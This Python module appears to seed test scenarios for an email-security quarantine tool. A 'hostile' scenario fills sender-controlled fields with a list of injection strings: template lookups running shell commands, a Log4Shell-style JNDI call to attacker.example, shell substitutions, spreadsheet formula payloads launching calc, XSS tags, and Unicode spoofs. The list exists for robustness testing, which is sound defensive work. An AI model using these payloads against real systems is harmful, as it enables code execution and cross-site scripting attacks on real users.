# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright (c) 2026 emailsec.cloudflare contributors

"""The mail that the emulated accounts begin with."""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING, Any

from .files import load_yaml

if TYPE_CHECKING:
    from .mail import Message
    from .world import World

HOUR, DAY = 3600.0, 86400.0
PASS = {"spf": "pass", "dkim": "pass", "dmarc": "pass"}

ACCOUNTS = (
    ("5a1c0f3e9b7d42468ace13579bdf0246", "Harbour Logistics", "harbour-logistics.example"),
    ("7e2d9c4b1a6f58037e2d9c4b1a6f5803", "Meadow Clinic", "meadow-clinic.example"),
    ("c0ffee5ecb10cade5ecb10cade5eca11", "Cedar Law", "cedar-law.example"),
)


# Texts that try to be a template, a terminal command, a formula, a page, somebody else, or too much
HOSTILE = (
    "{{ lookup('pipe', 'id') }} {% for x in [1] %}{{ x }}{% endfor %}",
    "{{ lookup('pipe', 'touch pwned') }}{{ 1/0 }}{% raw %}{#",
    "${jndi:ldap://attacker.example/a} $(id) `id` %(id)s {0.__class__}",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07 \x9b31m backspace\b\b\r\nSecond line\tTab",
    "invoice \u202efdp.exe\u202c \u2066isolated\u2069 \u200bzero width",
    '=HYPERLINK("https://attacker.example","Invoice")',
    "+1-1|cmd' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r=2",
    "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;\"'",
    'quote " comma , semicolon ; newline \n end',
    "lone surrogate \ud800 and \udfff",
    "\U0001f9d1\u200d\U0001f680 e\u0301\u0301\u0301 \u00e9 \u65e5\u672c\u8a9e",
    "!unsafe ---\n- yaml: [x]",
    "",
    "nul \0 byte \0",
    "p\u0430ypal.example xn--pypal-4ve.example \uff50aypal\uff0eexample",
    "\u061carabic mark \u2028line\u2029paragraph \U000e0041\U000e0042tags \u00adsoft",
    "long " * 20000,
    "x" * 2**20,
)
LONGEST_NAME = 1000


def empty(_world: World, _size: int) -> None:
    """Accounts without mail."""


def default(world: World, _size: int) -> None:
    """The messages of mailbox.yaml in each account."""
    for account in world.accounts.values():
        messages = load_yaml("mailbox.yaml")["messages"]
        world.add((_message(world, account.domain, **message) for message in messages), account.id)


def _message(world: World, domain: str, *, hours: float, to: str, **traits: Any) -> Message:
    return world.compose(age=hours * HOUR, recipients=[f"{name}@{domain}" for name in to.split()], **traits)


def hostile(world: World, size: int) -> None:
    """The default, and quarantined mail in the first account that is hostile in every field that its sender controls."""
    default(world, size)
    domain = world.accounts[world.first_account].domain
    world.add(_hostile(world, text, HOUR * (1 + index), f"alice@{domain}") for index, text in enumerate(HOSTILE))


def _hostile(world: World, text: str, age: float, recipient: str) -> Message:
    name = text[:LONGEST_NAME]
    message = world.compose(
        age=age,
        subject=text,
        sender=f"{name}@attacker.example",
        sender_name=name,
        recipients=[recipient],
        reasons=[name],
        threats=[name],
        links=[f"https://attacker.example/{name}"],
        attachments=[{"name": name, "content_type": name, "size": 1, "sha256": "0" * 64}],
        validation=PASS,
    )
    message.message_id = f"<{name}.{message.serial}@attacker.example>"
    return message


def bulk(world: World, size: int) -> None:
    """A false-positive wave: `size` quarantined messages in the first account, spread over 20 days."""
    domain = world.accounts[world.first_account].domain
    world.add(
        world.compose(
            age=HOUR + 20 * DAY * index / size,
            subject=f"Statement {index:06}",
            sender="statements@bank.example",
            recipients=[f"user{index % 997}@{domain}"],
            reasons=["Spam-like content"],
            validation=PASS,
        )
        for index in range(size)
    )


SCENARIOS: dict[str, Callable[[World, int], None]] = {
    scenario.__name__: scenario for scenario in (default, hostile, bulk, empty)
}
